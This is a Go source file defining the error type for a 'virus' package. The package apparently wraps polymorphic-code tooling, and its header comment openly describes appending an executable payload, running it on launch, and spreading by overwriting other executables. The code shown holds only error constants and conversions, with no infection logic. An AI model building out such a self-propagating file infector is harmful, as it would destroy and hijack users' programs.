// Package virus implements the secondary "virus" wrapper (C12): a
// generic orchestration layer over internal/poly and internal/editor
// that appends a second executable as an attached payload, runs it on
// launch, and propagates by overwriting other executables with a fresh
// copy of the infecting host. The teacher has no direct analog for this
// layer; it is grounded on the original C++ poly source's virus.hpp/
// virus_sample.cpp, generalized to Go generics and interfaces per
// REDESIGN FLAGS' TargetSelect/Exec trait bounds.
package virus

import "github.com/xyproto/veil/internal/verr"

// Error is this subsystem's sum-typed error kind (REDESIGN FLAGS:
// subsystem-specific sum types), scoped to the virus-layer variants
// spec.md §7 lists, mirroring editor.Error's and cipher.Error's
// int-enum/string-switch style.
type Error int

const (
	ErrNone Error = iota
	ErrFileAccessDenied
	ErrMalformedPath
	ErrFileWritingFailed
	ErrFileCopyFailed
	ErrNoTargetAttached
	ErrTargetNotExecuted
	ErrTargetAlreadyInExecution
)

func (e Error) Error() string {
	switch e {
	case ErrNone:
		return "none"
	case ErrFileAccessDenied:
		return "file access denied"
	case ErrMalformedPath:
		return "malformed path"
	case ErrFileWritingFailed:
		return "file writing failed"
	case ErrFileCopyFailed:
		return "file copy failed"
	case ErrNoTargetAttached:
		return "no target attached"
	case ErrTargetNotExecuted:
		return "target not executed"
	case ErrTargetAlreadyInExecution:
		return "target already in execution"
	default:
		return "unknown virus error"
	}
}

// AsVeilError converts e into the unified veil.Error REDESIGN FLAGS
// names, tagged verr.CategoryVirus.
func (e Error) AsVeilError() verr.Error {
	return verr.New(verr.CategoryVirus, int(e), e)
}
